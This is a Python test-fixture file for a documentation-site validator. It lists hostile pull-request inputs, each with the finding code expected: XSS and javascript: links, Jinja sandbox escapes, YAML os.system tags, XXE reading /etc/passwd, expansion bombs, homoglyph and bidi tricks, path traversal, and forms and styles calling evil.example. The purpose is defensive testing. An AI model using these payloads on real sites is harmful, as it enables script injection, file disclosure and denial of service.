"""The register of attempts: everything that a stranger's pull request was seen to try, in one place.

An attempt is some files laid over the small project, and what is expected: the code of a finding and
some of its words, or no finding at all, because words are words here. `test_attempts.py` makes them.
"""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass

from factory import (
    EDITION,
    FIGURE,
    FILES,
    HANDOUT,
    PACK,
    PROGRAM,
    RESOURCES,
    SESSION,
    SOURCES,
    TOPIC,
    changed,
)

WORDS = ""
"""Expected where nothing is found, because what was tried stays words."""

SETTINGS = "mkdocs.yml"
STYLE = "templates/print/sheet.css"
OVERRIDE = "templates/site/overrides/main.html"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'
KEY = "A craving rises and falls."


@dataclass(frozen=True, slots=True)
class Attempt:
    """One attempt: its group and name, the files, the code that is expected, its file, some of its words."""

    group: str
    name: str
    files: Mapping[str, str | bytes | None]
    code: str
    file: str
    says: str = ""

    def __str__(self) -> str:
        return f"{self.group}: {self.name}"


def said(words: str) -> dict[str, str]:
    """Return the handout with these words in its first block, typed so that YAML changes none of them."""
    quoted = words.replace("'", "''")
    return changed(HANDOUT, f"text: {KEY}", f"text: '{quoted}'")


def escaped(words: str) -> dict[str, str]:
    """Return the handout with words between double quotes, in which YAML reads escapes."""
    return changed(HANDOUT, f"text: {KEY}", f'text: "{words}"')


def _all(
    group: str,
    code: str,
    file: str,
    tried: Mapping[str, tuple[Mapping[str, str | bytes | None], str]],
) -> Iterator[Attempt]:
    for name, (files, says) in tried.items():
        yield Attempt(group, name, files, code, file, says)


MARKUP = {
    "a script": "<script>alert(1)</script>",
    "a script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "an event handler": "<img src=x onerror=alert(1)>",
    "a drawing that runs": "<svg/onload=alert(1)>",
    "mathematics that changes the parser": "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "a form": "<form action=https://evil.example><input name=password>",
    "another base": "<base href=https://evil.example/>",
    "a refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "a style": "<style>@import 'https://evil.example/x.css';</style>",
    "a comment that ends nothing": "<!-- never closed",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "a picture": "![pixel] (https://evil.example.org/p.gif)",
    "attributes in braces": "words {: onclick=alert(1) }",
    "an end of everything": "</p></div></body></html><script>alert(1)</script>",
    "a closing tag in a title": "</title><script>alert(1)</script>",
    "template syntax that computes": "{{ 7*7 }} {% raw %}",
    "template syntax that includes": "{% include '/etc/passwd' %} {% import 'os' as os %}",
    "template syntax that climbs": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a snippet of the engine": '--8<-- "/etc/passwd"',
    "an environment variable": "!ENV HOME ${HOME} $HOME %HOME% `id` $(id)",
    "a formula of a table": "=cmd|' /C calc'!A0 +1 @SUM(1) -1",
    "a workflow command": "::set-output name=x::y ::add-mask::z ##[error]",
    "a line of a calendar": "BEGIN:VEVENT\\nSUMMARY:evil\\nATTACH;VALUE=URI:evil\\nEND:VEVENT",
}

LINKS = {
    "javascript": ("[go](javascript:alert(1))", "`javascript:`"),
    "javascript in capitals": ("[go](JaVaScRiPt:alert(1))", "`JaVaScRiPt:`"),
    "javascript in angle brackets": ("[go](<javascript:alert(1)>)", "`javascript:`"),
    "javascript behind a space": ("[go]( javascript:alert(1))", "`javascript:`"),
    "javascript by entities": ("[go](&#106;avascript:alert(1))", "different ways"),
    "javascript by named entities": ("[go](javascript&#58;alert(1))", "different ways"),
    "javascript typed bare": ("Type javascript:alert(1) there.", "`javascript:`"),
    "vbscript": ("[go](vbscript:msgbox(1))", "`vbscript:`"),
    "data": ("[go](data:text/html;base64,PHNjcmlwdD4=)", "`data:`"),
    "a file": ("[go](file:///etc/passwd)", "`file:`"),
    "a blob": ("[go](blob:https://evil.example.org/1)", "`blob:`"),
    "our own scheme": ("[go](groupwork://figures/wave.svg)", "`groupwork:`"),
    "a scheme of a telephone": ("[go](intent://scan/#Intent;end)", "`intent:`"),
    "no scheme": ("[go](//evil.example.org/x)", "without saying how"),
    "a name in front": ("[go](https://samhsa.gov@evil.example.org/)", "hides behind a name"),
    "a password": ("Open https://user:password@evil.example.org now.", "hides behind a name"),
    "a percent sign for @": ("[go](https://samhsa.gov%40evil.example.org/)", "hides behind a name"),
    "backslashes": ("[go](https:\\\\evil.example.org)", "different ways"),
    "a number of a computer": ("[go](http://203.0.113.7/)", "no computer of the web"),
    "this computer": ("[go](http://localhost:8000/)", "no computer of the web"),
    "one number": ("[go](http://3405803783/)", "no computer of the web"),
    "letters of another alphabet": ("[go](https://аррlе.com/)", "U+0430, cyrillic small letter a"),
    "letters in disguise": ("[go](https://xn--80ak6aa92e.com/)", "which nobody can read"),
    "a full stop of another script": ("[go](https://evil。example.org/)", "U+3002"),
    "an absolute path": ("[go](/etc/passwd)", "root of a computer"),
    "a path that climbs": ("[go](../../../../etc/passwd)", "out of the site"),
    "a path that climbs by percent": ("[go](%2e%2e/%2e%2e/%2e%2e/etc/passwd)", "out of the site"),
    "a path that climbs twice by percent": (
        "[go](%252e%252e/%252e%252e/%252e%252e/x)",
        "out of the site",
    ),
    "a telephone with letters": ("[call](tel:9O8)", "no number that can be called"),
    "a telephone that pays": ("[call](tel:988;phone-context=evil.example.org)", "no number"),
    "a letter with copies": (
        "[write](mailto:help@example.org?bcc=me@evil.example.org)",
        "no plain address",
    ),
    "an endless address": (f"[go](https://example.org/{'a' * 600})", "more than 500"),
}

LETTERS = {
    "a turn to the left": ("Do \u202enot stop\u202c now.", "letters-turned", "U+202E"),
    "an embedding": ("Do \u202bnot\u202c stop.", "letters-turned", "U+202B"),
    "an isolate": ("Do \u2067not\u2069 stop.", "letters-turned", "U+2067"),
    "a mark of direction": ("Call\u200f 988.", "letters-unseen", "U+200F"),
    "a space without width": ("over\u200bdose", "letters-unseen", "U+200B"),
    "a soft hyphen": ("over\u00addose", "letters-unseen", "U+00AD"),
    "a joiner": ("over\u200ddose", "letters-unseen", "U+200D"),
    "a word joiner": ("over\u2060dose", "letters-unseen", "U+2060"),
    "tag letters": ("Words\U000e0073\U000e0061\U000e0079 here.", "letters-unseen", "U+E0073"),
    "a variant of nothing": ("over\ufe01dose", "letters-unseen", "U+FE01"),
    "a supplementary variant": ("over\U000e0101dose", "letters-unseen", "U+E0101"),
    "a filler": ("over\u3164dose", "letters-unseen", "U+3164"),
    "a separator of lines": ("Words\u2028more", "letters-unseen", "U+2028"),
    "a Cyrillic letter": ("An оverdose.", "letter-from-elsewhere", "о is U+043E, cyrillic"),
    "a Greek capital": ("Αlcohol", "letter-from-elsewhere", "Α is U+0391, greek"),
    "a whole word of doubles": ("A соре here.", "letter-from-elsewhere", "U+0441, cyrillic"),
    "letters for formulas": ("𝐨verdose", "letter-from-elsewhere", "U+1D428, mathematical"),
    "full-width letters": ("ｏverdose", "letter-from-elsewhere", "U+FF4F, fullwidth"),
    "a control character": ("Words\x1b[2J", "control-character", "U+001B"),
    "a null": ("Words\x00", "control-character", "U+0000"),
    "half a letter": (b"\xed\xa0\x80", "not-utf-8", "UTF-8"),
}

ESCAPES = {
    "an escape that clears the screen": (r"\e[2J", "control-character", "U+001B"),
    "a turn by an escape": (r"Do \u202enot stop.", "letters-turned", "U+202E"),
    "a letter nobody sees by an escape": (r"over\u200bdose", "letters-unseen", "U+200B"),
    "a double by an escape": (r"\u043everdose", "letter-from-elsewhere", "U+043E"),
    "a link by escapes": (r"[go](java\x73cript:alert(1))", "link-unsafe", "`javascript:`"),
    "a link with a tab": (r"[go](java\tscript:alert(1))", "link-unsafe", "different ways"),
    "a link with a line end": (r"[go](java\nscript:alert(1))", "link-unsafe", "different ways"),
}

FINE = {
    "Arabic with a mark": "شكرا\u200f 988",
    "Persian with a joiner": "می\u200cروم",
    "an emoji in pieces": "👩\u200d⚕️ ❤️",
    "Russian": "Это русский текст о тяге",
    "Spanish": "¿Cómo está? Añoranza",
    "a unit": "5 μg, a β-blocker",
    "a link": "[the guide](https://www.samhsa.gov/find-help?a=1&b=2#top)",
    "a page of the site": "[the topic](../topics/cravings.html)",
    "a number": "[call](tel:988) or [write](sms:988)",
    "a script in a play": "Read the script: data: 3 of 4.",
}

DRAWINGS = {
    "a script": "<script>alert(1)</script>",
    "a script of another namespace": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    "a handler": '<path onload="alert(1)" d="M0 0"/>',
    "a page inside": "<foreignObject><body/></foreignObject>",
    "a refresh of another namespace": '<h:meta xmlns:h="http://www.w3.org/1999/xhtml" content="0"/>',
    "a link": '<a href="https://evil.example"><path d="M0 0"/></a>',
    "a picture": '<image href="https://evil.example/p.png"/>',
    "a picture of this computer": '<image href="file:///etc/passwd"/>',
    "a part of another file": '<use href="other.svg#a"/>',
    "a part of another computer": '<use xlink:href="https://evil.example/x.svg#a"/>',
    "a style sheet": "<style>@import url(https://evil.example/x.css);</style>",
    "a style that loads": '<path style="fill: url(https://evil.example/x)" d="M0 0"/>',
    "an attribute that loads": '<path fill="url(https://evil.example/x)" d="M0 0"/>',
    "an attribute that loads, in capitals": '<path fill="URL(https://evil.example/x)" d="M0 0"/>',
    "an attribute that loads, by escapes": '<path fill="\\75rl(https://evil.example/x)" d="M0 0"/>',
    "a set of pictures": '<path style="fill: image-set(\'https://evil.example/x\' 1x)" d="M0 0"/>',
    "a filter with a picture": '<filter id="f"><feImage href="https://evil.example/x"/></filter>',
    "an animation of a link": '<animate attributeName="href" to="javascript:alert(1)"/>',
    "a motion": '<animateMotion path="M0 0"/>',
    "another base": '<g xml:base="https://evil.example/"><use href="#a"/></g>',
    "an instruction": "<?xml-stylesheet href='https://evil.example/x.css'?>",
    "parts that grow": '<g id="a"><path d="M0 0"/></g>'
    + "".join(
        f'<g id="{new}"><use href="#{old}"/><use href="#{old}"/></g>'
        for old, new in zip("abcdefghijklmnopqrstuvwxy", "bcdefghijklmnopqrstuvwxyz", strict=True)
    ),
    "a part in itself": '<g id="a"><use href="#a"/></g>',
    "a thousand parts": '<g id="a"/>' + '<use href="#a"/>' * 1000,
    "a marker of many shapes": f'<marker id="m">{"<path/>" * 100}</marker>',
    "nesting without end": "<g>" * 5000 + "</g>" * 5000,
}

WHOLE_DRAWINGS: Mapping[str, tuple[str | bytes, str]] = {
    "a billion laughs": (
        f'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>{SVG}<text>&b;</text></svg>',
        "figure-unsafe",
    ),
    "an entity of this computer": (
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{SVG}<text>&x;</text></svg>',
        "figure-unsafe",
    ),
    "an entity in UTF-16": (
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{SVG}<text>&x;</text></svg>'.encode(
            "utf-16"
        ),
        "figure-unsafe",
    ),
    "an entity in UTF-16 without a mark": (
        f'<?xml version="1.0" encoding="utf-16le"?><!DOCTYPE svg>{SVG}</svg>'.encode("utf-16-le"),
        "figure-unsafe",
    ),
    "an entity in UTF-7": (
        b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE svg+AD4-' + f"{SVG}</svg>".encode(),
        "figure-unsafe",
    ),
    "an entity in EBCDIC": (
        f'<?xml version="1.0" encoding="cp037"?><!DOCTYPE svg>{SVG}</svg>'.encode("cp037"),
        "figure-unsafe",
    ),
    "a size that is no number": (
        SVG.replace("0 0 9 9", "0 0 1.2.3 9") + "</svg>",
        "figure-unreadable",
    ),
    "a size without end": (
        SVG.replace("0 0 9 9", f"0 0 {'9' * 400} 9") + "</svg>",
        "figure-unreadable",
    ),
    "a size of nothing": (SVG.replace("0 0 9 9", "0 0 0 9") + "</svg>", "figure-unreadable"),
    "no drawing": ("MZ\x90", "figure-unreadable"),
    "more than anybody draws": (f"{SVG}{' ' * 600_000}</svg>", "figure-unsafe"),
}

SETTING = {
    "a hook": "hooks: [evil.py]",
    "a plugin": "plugins: [search, evil]",
    "a plugin that runs commands": "plugins:\n  - exec: {command: id}",
    "a tag that runs": "site_name: !!python/object/apply:os.system [id]",
    "a tag that names": "markdown_extensions:\n  - toc:\n      slugify: !!python/name:os.system",
    "the environment": "site_description: !ENV HOME",
    "another theme": "theme: {name: evil}",
    "a theme elsewhere": "theme: {name: material, custom_dir: /etc}",
    "a theme above": "theme: {name: material, custom_dir: ../../evil}",
    "other settings": "INHERIT: /etc/evil.yml",
    "a script of another computer": "extra_javascript: [https://evil.example/x.js]",
    "a script without a scheme": "extra_javascript: [//evil.example/x.js]",
    "a script by its fields": "extra_javascript: [{path: x.js, type: module}]",
    "a style sheet of another computer": "extra_css: [https://evil.example/x.css]",
    "a path that climbs": "extra_css: [../../../etc/x.css]",
    "snippets": "markdown_extensions:\n  - pymdownx.snippets: {base_path: /}",
    "blocks of HTML": "markdown_extensions: [md_in_html]",
    "pages elsewhere": "docs_dir: /etc",
    "pages above": "docs_dir: ..",
    "a site elsewhere": "site_dir: /var/www",
    "analytics": "extra: {analytics: {provider: google, property: X}}",
    "a repository": "repo_url: https://github.com/evil/evil",
    "letters of another computer": "theme: {name: material, font: {text: Roboto}}",
    "a tag in a name": "site_name: '<script>alert(1)</script>'",
    "an attribute in a name": "site_description: '\"><img src=x onerror=alert(1)>'",
    "a notice of copyright that runs": "copyright: <script>alert(1)</script>",
    "a feature that fetches pages": "theme: {name: material, features: [navigation.instant]}",
    "a merge": "base: &b {hooks: [evil.py]}\n<<: *b",
    "a second time": "theme: {name: material}\nhooks: []",
    "a watch": "watch: [/etc]",
    "an address of the preview": "dev_addr: 0.0.0.0:80",
}

STYLES = {
    "an import": "@import 'https://evil.example/x.css';",
    "an import of an address": "@import url(//evil.example/x.css);",
    "an address": "p { background: url(https://evil.example/p.png) }",
    "an address in capitals": "p { background: URL('HTTPS://evil.example/p.png') }",
    "an address by escapes": "p { background: \\75 rl(https://evil.example/p.png) }",
    "an address behind a comment": "p { background: /* */url(https://evil.example/p.png) }",
    "a set of pictures": "p { background: image-set('https://evil.example/p.png' 1x) }",
    "letters of another computer": "@font-face { font-family: x; src: url(https://evil.example/x.woff) }",
    "a file": "p { background: url(file:///etc/passwd) }",
    "a path that climbs": "p { background: url(../../../../etc/passwd) }",
    "data that is a page": "p { background: url(data:text/html,x) }",
    "an expression": "p { width: expression(alert(1)) }",
}

OVERRIDES = {
    "a call": "{{ config.theme.get_env() }}",
    "a climb": "{{ ''.__class__.__mro__ }}",
    "a climb by a filter": "{{ config | attr('__init__') }}",
    "a climb by an index": "{{ config['__init__'] }}",
    "globals": "{{ url_for.__globals__.os }}",
    "a loop of loops": "{% for a in nav %}{% for b in nav %}{% for c in nav %}x{% endfor %}{% endfor %}{% endfor %}",
    "a multiplication": "{{ 'a' * 1000000000 }}",
    "a range": "{% for a in range(1000000000) %}x{% endfor %}",
    "a file": "{% include '/etc/passwd' %}",
    "another page": "{% extends '../../evil.html' %}",
    "a script": "{% block scripts %}<script>alert(1)</script>{% endblock %}",
    "a script in pieces": "<scr{{ config.site_name }}ipt>",
    "a script in quotes": "{{ '<script>alert(1)</script>' }}",
    "a handler": '<p onclick="alert(1)">x</p>',
    "a link that runs": '<a href="javascript:alert(1)">x</a>',
    "a picture of another computer": '<img alt="" data-x="https://evil.example">',
    "a macro": "{% macro m() %}{{ m() }}{% endmacro %}",
    "no template": "{% if %}",
}

NUMBERS = {
    "four hundred nines": "9" * 400,
    "ten to the eighteenth": "1000000000000000000",
    "beyond all numbers": "1.0e400",
    "no number": ".nan",
    "without end": ".inf",
    "less than nothing": "-1",
    "a hexadecimal": "0x7fffffff",
    "minutes by the clock": "99:99",
}

DATES = (
    "0000-00-00",
    "99999-01-01",
    "2027-02-30",
    "-2027-01-04",
    "1899-12-31",
    "2201-01-01",
    "９９９９-01-01",
)

IDS = {
    "a path that climbs": "../../etc/passwd",
    "an absolute path": "/etc/passwd",
    "a path by percent": "%2e%2e%2fpasswd",
    "a name of Windows": "CON.yaml",
    "a path of Windows": "C:\\\\Windows\\\\win.ini",
    "a very long one": "A" * 5000,
    "a Cyrillic letter": "riding-оut",
    "a turn": "riding\\u202eout",
    "a space": "riding out",
}

NAMES = {
    "a Cyrillic letter": "crаving.yaml",
    "a turn": "riding\u202elmay.yaml",
    "an escape": "a\x1b[2J\x1b]0;evil\x07.yaml",
    "a line end": "a\n::error::evil.yaml",
    "no letters of ours": b"\xff\xfe.yaml",
    "a long one": f"{'A' * 200}.yaml",
    "a name of Windows": "COM1.txt.yaml",
}

BOMBS: Mapping[str, tuple[str, str]] = {
    "a billion laughs": (
        "a: &a [x,x,x,x,x,x,x,x,x]\n"
        + "".join(
            f"{new}: &{new} [{','.join([f'*{old}'] * 9)}]\n"
            for old, new in zip("abcdefgh", "bcdefghi", strict=True)
        ),
        "file-expands-too-far",
    ),
    "long words many times": (
        f"a: &a {'x' * 9000}\nb: [{','.join(['*a'] * 900)}]\n",
        "file-expands-too-far",
    ),
    "an alias of itself": ("a: &a [*a]\n", "file-expands-too-far"),
    "brackets without end": ("a: " + "[" * 100_000, "file-expands-too-far"),
    "columns without end": (
        "".join(f"{' ' * depth}a:\n" for depth in range(1200)),
        "file-expands-too-far",
    ),
    "more than anybody writes": ("a: " + "x" * 1_000_001, "file-too-large"),
    "a tag that runs": ("title: !!python/object/apply:os.system [id]\n", "yaml-tag"),
    "a merge": ("<<: {title: x}\ntitle: y\n", "field-unknown"),
    "a second document": ("title: x\n---\ntitle: y\n", "yaml-syntax"),
    "an archive": ("PK\x03\x04\x14", "control-character"),
}


def attempts() -> tuple[Attempt, ...]:
    """Return every attempt that is made of ordinary files."""
    return (
        *_all("markup", WORDS, HANDOUT, {name: (said(words), "") for name, words in MARKUP.items()}),
        *_all("fine", WORDS, HANDOUT, {name: (said(words), "") for name, words in FINE.items()}),
        *_all("links", "link-unsafe", HANDOUT, {name: (said(words), says) for name, (words, says) in LINKS.items()}),
        *(
            Attempt("letters", name, _lettered(words), code, HANDOUT, says)
            for name, (words, code, says) in LETTERS.items()
        ),
        *(
            Attempt("escapes", name, escaped(words), code, HANDOUT, says)
            for name, (words, code, says) in ESCAPES.items()
        ),
        *_all("drawings", "figure-unsafe", FIGURE, {name: ({FIGURE: f"{SVG}{inside}</svg>"}, "") for name, inside in DRAWINGS.items()}),
        *(Attempt("drawings", name, {FIGURE: data}, code, FIGURE) for name, (data, code) in WHOLE_DRAWINGS.items()),
        *(
            Attempt("settings", name, {SETTINGS: f"{text}\n"}, "yaml-tag" if "!" in text else "setting-not-allowed", SETTINGS)
            for name, text in SETTING.items()
        ),
        *_all("styles", "looks-unsafe", STYLE, {name: ({STYLE: f"p {{}}\n{text}\n"}, "") for name, text in STYLES.items()}),
        *_all("overrides", "looks-unsafe", OVERRIDE, {name: ({OVERRIDE: text}, "") for name, text in OVERRIDES.items()}),
        Attempt("styles", "a script in a drawing of the looks", {"templates/site/assets/x.svg": f"{SVG}<script/></svg>"}, "figure-unsafe", "templates/site/assets/x.svg"),
        Attempt("styles", "a page by another ending", {"templates/site/assets/x.xhtml": "<x/>"}, "looks-unsafe", "templates/site/assets/x.xhtml"),
        *_numbers(),
        *(Attempt("ids", name, changed(SESSION, "handouts: [the-wave]", f'handouts: ["{id}"]'), *_code_of_id(name), SESSION, _says_of_id(name)) for name, id in IDS.items()),
        *(Attempt("bombs", name, {TOPIC: text}, code, TOPIC) for name, (text, code) in BOMBS.items()),
        Attempt("addresses", "of the site", changed(PROGRAM, "cycle_weeks: 4", "cycle_weeks: 4\nweb: {site: 'javascript:alert(1)'}"), "wrong-value", PROGRAM, "address on the web"),
        Attempt("addresses", "of a source", changed(SOURCES, "year: 2014", "year: 2014, url: 'javascript:alert(1)'"), "link-unsafe", SOURCES, "`javascript:`"),
        Attempt("addresses", "of a chat", changed(RESOURCES, 'phone: "988"', 'chat: "https://user@evil.example.org"'), "link-unsafe", RESOURCES, "hides behind"),
        Attempt("addresses", "of a pack", changed(PACK, "cite: The brief}", "cite: The brief, url: 'file:///etc/passwd'}"), "link-unsafe", PACK, "`file:`"),
    )  # fmt: skip


def _lettered(words: str | bytes) -> dict[str, str | bytes]:
    text = FILES[HANDOUT].encode()
    data = words if isinstance(words, bytes) else words.encode()
    return {HANDOUT: text.replace(KEY.encode(), data)}


def _code_of_id(name: str) -> tuple[str]:
    return ("letters-turned",) if name == "a turn" else ("wrong-value",)


def _says_of_id(name: str) -> str:
    return {"a Cyrillic letter": "о is U+043E, cyrillic small letter o", "a turn": "U+202E"}.get(
        name, "should be an id"
    )


def _numbers() -> Iterator[Attempt]:
    minutes = "kind: practice\n    minutes: 40"
    for name, number in NUMBERS.items():
        code = "wrong-value" if name == "less than nothing" else "wrong-type"
        yield Attempt(
            "numbers",
            name,
            changed(SESSION, minutes, f"kind: practice\n    minutes: {number}"),
            code,
            SESSION,
        )
    for date in DATES:
        yield Attempt(
            "dates",
            date,
            changed(EDITION, "date: 2027-01-04", f"date: {date}"),
            "wrong-value",
            EDITION,
            "should be a date",
        )
